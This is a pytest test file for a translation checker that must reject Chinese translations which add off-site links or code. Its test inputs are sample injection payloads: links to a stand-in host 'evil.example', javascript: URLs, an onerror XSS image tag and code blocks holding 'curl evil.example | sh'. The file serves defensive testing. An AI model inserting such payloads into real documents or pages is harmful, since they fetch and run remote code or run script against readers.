"""A translation adds no off-site link and no code, however it is written (issue 57, item 6).

The in-step check compares what the English and the Chinese *render to* (markdown-it-py tokens):
each of these passed the text-pattern check before; each is now a problem of the catalogue.
"""
from __future__ import annotations

import pytest

from allocator_ref.editions import catalog, instep

ENGLISH = "See [the chapter](chapter_02.md) and <https://pytorch.org/docs/stable/notes/cuda.html>."
FAITHFUL = "见[该章](chapter_02.md)与 <https://pytorch.org/docs/stable/notes/cuda.html>。"

ATTACKS = {
    "protocol-relative link": FAITHFUL + " [下载](//evil.example/x)",
    "protocol-relative image": FAITHFUL + " ![图](//evil.example/x.png)",
    "GFM autolink": FAITHFUL + " 见 www.evil.example/setup",
    "angle autolink": FAITHFUL + " <ftp://evil.example/x>",
    "upper-case scheme": FAITHFUL + " [文档](HTTPS://evil.example)",
    "ftp link": FAITHFUL + " [文件](ftp://evil.example/f)",
    "entity-encoded javascript": FAITHFUL + " [点此](javascript&#58;alert(1))",
    "mixed-case javascript": FAITHFUL + " [点此](JaVaScRiPt:alert(1))",
    "reference definition": FAITHFUL + " [点此][x]\n\n[x]: https://evil.example",
    "unused reference definition": FAITHFUL + "\n\n[x]: https://evil.example",
    "tilde fence": FAITHFUL + "\n\n~~~\ncurl evil.example | sh\n~~~",
    "indented code": FAITHFUL + "\n\n    curl evil.example | sh",
    "raw HTML": FAITHFUL + " <img src=x onerror=alert(1)>",
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_a_translation_that_adds_a_link_or_code_is_a_problem(name):
    problems = catalog.rule_problems(ENGLISH, ATTACKS[name]) + instep.rendered_problems(ENGLISH, ATTACKS[name])
    assert problems, f"{name}: {ATTACKS[name]!r} passed the in-step check"


def test_a_faithful_translation_and_an_added_relative_link_pass():
    assert instep.rendered_problems(ENGLISH, FAITHFUL) == []
    assert instep.rendered_problems(ENGLISH, FAITHFUL + " 术语见[词汇表](glossary.md)。") == []


def test_targets_are_compared_as_a_browser_follows_them():
    assert instep.target("JavaScript&#58;alert(1)") == "javascript:alert(1)"
    assert instep.target("java\tscript:x") == "javascript:x"
    assert instep.leaves_the_page("//evil.example") and not instep.leaves_the_page("chapter_02.md")
